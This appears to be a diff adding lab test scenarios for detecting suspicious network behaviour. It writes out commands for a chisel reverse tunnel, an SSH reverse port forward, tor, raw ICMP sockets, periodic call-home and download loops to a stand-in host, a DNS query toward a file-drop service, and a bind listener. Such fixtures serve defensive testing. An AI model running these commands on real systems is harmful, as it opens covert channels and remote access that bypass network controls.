@@ -1,0 +1,26 @@
+## Tunnel started
+#setup named /tmp/chisel
+/tmp/chisel client 203.0.113.9:8080 R:socks
+## Port made reachable from outside by SSH
+ssh -o BatchMode=yes -N -R 2222:localhost:22 10.9.8.7
+## Hidden network used
+#setup named /tmp/tor
+/tmp/tor -f x
+## Socket of ICMP made by a stranger
+python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
+## Answers taken from DNS texts
+dns TXT 32 8
+## Call home at regular times
+#setup cp /opt/lab/connect /tmp/agent
+for n in $(seq 1 12); do /tmp/agent tcp4 203.0.113.9 443; done
+## Download at regular times
+for n in $(seq 1 31); do curl -s http://203.0.113.9/; done
+## Place to drop data asked for
+timeout 1 python3 -c 'import socket
+q = bytes.fromhex("000101000001000000000000") + b"\x08transfer\x02sh\0\0\1\0\1"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("10.9.8.1", 53))'
+## Download tool started by a server
+server 'curl -s http://10.9.8.7/x'
+## Program in a scratch folder waits for callers
+#setup cp /opt/lab/sockets /tmp/agent
+/tmp/agent bind tcp4 0.0.0.0 4447 5
